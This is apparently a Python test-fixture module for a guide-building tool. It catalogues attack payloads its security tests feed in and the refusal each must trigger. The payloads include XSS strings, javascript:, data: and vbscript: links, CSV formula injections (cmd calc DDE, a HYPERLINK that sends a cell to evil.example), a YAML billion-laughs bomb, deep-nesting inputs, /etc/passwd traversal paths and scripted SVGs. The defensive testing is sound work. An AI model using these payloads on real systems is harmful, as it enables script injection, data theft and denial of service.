"""The attacks the security tests try, one row each: where it is injected, what must happen.

Every row is used by a test (``test_catalog_is_used`` checks that each name is claimed), and
the README's security notes count them. Payloads come from the kinds of input the guide takes
from people who are not its maintainers: a content pull request, a society overlay, a
translation pack, a sign-up survey answer, a data file given to a command.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One attack: its name, where it goes in, the payload and what must happen."""

    name: str
    where: str
    payload: str
    must: str
    #: For text that passes the check: how it must appear in a page's HTML.
    shown: str = ""


def _refused(name: str, payload: str, message: str) -> Attack:
    return Attack(name, "every text field of every content kind and worksheet", payload, message)


#: Markdown a content text must not hold: each is refused by ``mentorguide check`` and the
#: build with this message, at the field's line and column.
REFUSED_MARKUP = [
    _refused(
        "raw img tag with an event handler",
        "<img src=x onerror=alert(1)>",
        "raw HTML '<img' is not allowed in content text (it is Markdown: put markup in "
        "backticks to show it as written)",
    ),
    _refused(
        "raw script element",
        "<script>alert(1)</script>",
        "raw HTML '<script' is not allowed in content text (it is Markdown: put markup in "
        "backticks to show it as written)",
    ),
    _refused(
        "raw HTML comment",
        "<!-- hidden -->",
        "raw HTML '<!--' is not allowed in content text (it is Markdown: put markup in "
        "backticks to show it as written)",
    ),
    _refused(
        "attribute list with an event handler",
        '`x`{: onmouseover="alert(1)" }',
        "'{: onmouseover=\"alert(1)\" }' is not allowed in content text (curly braces make an "
        "attribute list; put them in backticks to show them as written)",
    ),
    _refused(
        "attribute list without a colon",
        "*x*{onclick=alert(1)}",
        "'{onclick=alert(1)}' is not allowed in content text (curly braces make an attribute "
        "list; put them in backticks to show them as written)",
    ),
    _refused(
        "javascript: link",
        "[x](javascript:alert(1))",
        "link target 'javascript:alert(1' is not allowed (expected https://…, http://…, "
        "mailto:…, tel:…, a relative path or a #anchor)",
    ),
    _refused(
        "mixed-case javascript: link",
        "[x](JaVaScRiPt:alert(1))",
        "link target 'JaVaScRiPt:alert(1' is not allowed (expected https://…, http://…, "
        "mailto:…, tel:…, a relative path or a #anchor)",
    ),
    _refused(
        "data: link",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "link target 'data:text/html;base64,PHNjcmlwdD4=' is not allowed (expected https://…, "
        "http://…, mailto:…, tel:…, a relative path or a #anchor)",
    ),
    _refused(
        "vbscript: link",
        "[x](vbscript:msgbox(1))",
        "link target 'vbscript:msgbox(1' is not allowed (expected https://…, http://…, "
        "mailto:…, tel:…, a relative path or a #anchor)",
    ),
    _refused(
        "protocol-relative link to another host",
        "[x](//evil.example/steal)",
        "link target '//evil.example/steal' is not allowed (expected https://…, http://…, "
        "mailto:…, tel:…, a relative path or a #anchor)",
    ),
    _refused(
        "reference-style javascript: link",
        "[x][evil]\n\n[evil]: javascript:alert(1)",
        "link target 'javascript:alert(1)' is not allowed (expected https://…, http://…, "
        "mailto:…, tel:…, a relative path or a #anchor)",
    ),
    _refused(
        "image from another host (a tracking pixel)",
        "![x](https://evil.example/pixel.png)",
        "image 'https://evil.example/pixel.png' is not allowed: images must be the project's "
        "own files (a relative path such as images/chart.png)",
    ),
    _refused(
        "image from a data: address",
        "![x](data:image/png;base64,AAAA)",
        "image 'data:image/png;base64,AAAA' is not allowed: images must be the project's own "
        "files (a relative path such as images/chart.png)",
    ),
    _refused(
        "image from an absolute file path",
        "![x](/etc/passwd)",
        "image '/etc/passwd' is not allowed: images must be the project's own files (a "
        "relative path such as images/chart.png)",
    ),
]

#: Text that passes the check (it is text, or code) and must reach every page, PDF and
#: attribute as inert text: no script runs, no request leaves.
SURVIVING_TEXT = [
    Attack(
        "img tag in a code span",
        "every text field, title and name (built site, Chromium)",
        "`<img src=x onerror=alert(1)>`",
        "shown as written; no dialog in Chromium; the page has no element with an on… attribute",
        "<code>&lt;img src=x onerror=alert(1)&gt;</code>",
    ),
    Attack(
        "attribute breakout in a code span",
        "every text field, title and name (built site, Chromium)",
        "`\"'><svg onload=alert(2)>`",
        "quotes escaped in every attribute (data-title, aria-label, title); no dialog",
        "<code>\"'&gt;&lt;svg onload=alert(2)&gt;</code>",
    ),
    Attack(
        "entity-encoded attribute list",
        "every text field (built site)",
        "&#123;: onmouseover=alert(3) &#125;",
        "shown as written (&#123;…), never an attribute list",
        "&amp;#123;: onmouseover=alert(3) &amp;#125;",
    ),
    Attack(
        "Jinja expression in a code span",
        "every text field (built site)",
        "`{{ 7*7 }}`",
        "shown as written: content is never rendered as a template",
        "<code>{{ 7*7 }}</code>",
    ),
    Attack(
        "entity-obfuscated javascript: link",
        "every text field (built site)",
        "[x](jav&#x61;script:alert(5))",
        "a relative link to a page named 'jav&#x61;script…', never a script",
        '<a href="jav&amp;#x61;script:alert(5)">x</a>',
    ),
    Attack(
        "javascript: as plain text",
        "every text field (built site)",
        "javascript:alert(4)",
        "shown as text, never a link",
        " javascript:alert(4)</p>",
    ),
]

#: Survey answers a spreadsheet would run as formulas (OWASP, "CSV Injection"): each goes into
#: a respondent's name, education and interests; every CSV and workbook cell we write shows it
#: as text, and reading our files back gives the answer as it was typed.
FORMULAS = [
    Attack(
        f"formula starting with {label}",
        "a survey answer (name, education, interests) → responses.csv, pairs.csv, scores.csv",
        payload,
        "written with a leading quote (text in any spreadsheet); read back as typed (a quote "
        "typed before a formula marks it as text, as in a spreadsheet)",
    )
    for label, payload in [
        ("=", '=HYPERLINK("https://evil.example/?"&A2;"Click")'),
        ("+", "+1+cmd|' /C calc'!A0"),
        ("-", "-2+3+cmd|' /C calc'!A0"),
        ("@", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("a tab", "\t=1+1"),
        ("a carriage return", "\r=1+1"),
        ("a quote before =", "'=1+1"),
    ]
]

#: Ids and emails are checked strictly enough that no formula passes as one.
FORMULA_IDS = [
    Attack(
        "formula as an email",
        "a survey's email answer",
        "=cmd|calc!A0@evil.org",
        "expected an email address, got '=cmd|calc!A0@evil.org'",
    ),
    Attack(
        "formula as an id",
        "a survey's id answer",
        "=1+1",
        "expected an id that starts with a letter or digit, got '=1+1'",
    ),
]


#: The payload that stands for a file of 50,000,001 bytes (made sparse: a size, no writing).
OVERSIZED = "<50,000,001 bytes>"


def alias_bomb(levels: int = 14, width: int = 9) -> str:
    """About 1 KB of YAML whose aliases expand to ``width ** levels`` values (a "billion
    laughs"): 9 ** 14 is 2.3e13."""
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * width) + "]")
    return "\n".join(lines) + "\n"


#: Files that ask the reader for too much; each goes into every YAML and JSON entry point
#: (content, society.yml, a strings file, ``worksheet pdf --data``, ``match --weights``, a
#: survey's JSON). Each must fail with one located message, in under a second and 200 MB.
PARSER_BOMBS = [
    Attack("alias bomb", "every YAML entry point", alias_bomb(), "aliases expand to more than"),
    Attack("recursive alias", "every YAML entry point", "a: &a [1, *a]\n", "is inside the value"),
    Attack(
        "deep nesting (YAML)",
        "every YAML entry point",
        "a: " + "[" * 5000 + "]" * 5000 + "\n",
        "nested more than 64 levels deep",
    ),
    Attack(
        "deep nesting (JSON)",
        "every entry point",
        '{"a": ' + "[" * 100_000 + "]" * 100_000 + "}",
        "nested more than 64 levels deep",
    ),
    Attack("NUL byte", "every entry point", '{"a": "x\x00y"}\n', "a NUL character"),
    Attack(
        "5,000-digit integer",
        "every entry point",
        '{"a": ' + "9" * 5000 + "}\n",
        "a number of 5,000 characters (at most 100)",
    ),
    Attack("non-string key", "every YAML entry point", "1: x\n", "key '1' is not text"),
    Attack(
        "oversized file",
        "every entry point",
        OVERSIZED,
        "bytes, more than the",
    ),
]

#: What someone with write access to a (shared) cache folder may plant there.
CACHE_TAMPERING = [
    Attack(
        "a pickle that runs a command",
        "<cache>/project/<entry>.json (and a .pickle beside it)",
        "pickle",
        "never loaded: the project is validated again, a debug line names the entry",
    ),
    Attack(
        "an entry from another version",
        "<cache>/project/<entry>.json",
        "version",
        "ignored and rebuilt, with a debug line",
    ),
    Attack(
        "an entry with changed content",
        "<cache>/project/<entry>.json",
        "content",
        "its text never reaches a page: the entry is for other inputs, rebuilt",
    ),
    Attack(
        "an entry with a value its model refuses",
        "<cache>/project/<entry>.json",
        "invalid",
        "refused by the models it is read through, rebuilt",
    ),
    Attack(
        "a compiled template from someone else",
        "<cache>/templates/<entry>.cache (Jinja bytecode: code)",
        "template",
        "its signature does not verify under the user's key: never loaded, compiled again",
    ),
]

#: What a PDF's HTML may ask WeasyPrint to fetch; ``{server}`` is a local server that records
#: requests. Each is refused with the PDF's name and the URL, and the server sees nothing.
PDF_FETCHES = [
    Attack(
        "image from another host",
        "a PDF's HTML (a worksheet's purpose, help)",
        '<img src="{server}pixel.png">',
        "refused to fetch '{server}pixel.png'",
    ),
    Attack(
        "stylesheet from another host",
        "a PDF's HTML",
        '<link rel="stylesheet" href="{server}style.css">',
        "refused to fetch '{server}style.css'",
    ),
    Attack(
        "CSS import from another host",
        "a PDF's style",
        '<style>@import url("{server}import.css");</style>',
        "refused to fetch '{server}import.css'",
    ),
    Attack(
        "file outside the package",
        "a PDF's HTML",
        '<img src="file:///etc/passwd">',
        "refused to fetch 'file:///etc/passwd'",
    ),
    Attack(
        "CSS background from a file outside",
        "a PDF's style attribute",
        '<p style="background: url(file:///etc/hostname)">x</p>',
        "refused to fetch 'file:///etc/hostname'",
    ),
]

#: Names given to ``mentorguide init``: each is read back from society.yml and mkdocs.yml
#: exactly as given (no key injected, nothing cut at a '#').
INIT_NAMES = [
    Attack(f"init name {label}", "mentorguide init --name/--short-name", name, "round-trips")
    for label, name in [
        ("with a comment sign", "Ohio #1 Society"),
        ("with a colon", "A: B"),
        ("with a newline that would inject a key", "Ohio Society\nlogo: ../../etc/passwd"),
        ("with quotes", 'The "Best" Society\'s Guide'),
        ("with YAML indicators", "- @ * & ! | > % ? , ["),
        ("that looks like a number", "1e3"),
        ("that looks like a boolean", "yes"),
        ("with a tab and unicode", "Société\tÉtoile 😀"),
    ]
]

#: What a society.yml may name as its logo or favicon: each is refused with this message.
LOGOS = [
    Attack(
        "logo path leaving docs/",
        "society.yml logo",
        "../../../../etc/passwd",
        "must be a path inside docs/",
    ),
    Attack(
        "absolute logo path", "society.yml favicon", "/etc/passwd", "must be a path inside docs/"
    ),
    Attack(
        "logo through a link out of docs/", "society.yml logo", "link.svg", "leads outside docs/"
    ),
    Attack(
        "SVG with a script",
        "society.yml logo",
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "holds a <script> element",
    ),
    Attack(
        "SVG with an event handler",
        "society.yml logo",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "holds an event handler attribute",
    ),
    Attack(
        "SVG with an external image",
        "society.yml favicon",
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/p.png"/></svg>',
        "holds a reference to another file or address (href)",
    ),
    Attack(
        "SVG with HTML inside",
        "society.yml logo",
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>x</p></foreignObject></svg>',
        "holds a <foreignObject>",
    ),
    Attack(
        "SVG with an external style",
        "society.yml logo",
        '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(https://evil.example/x)"/></svg>',
        "holds a reference to another file or address (url(…))",
    ),
]
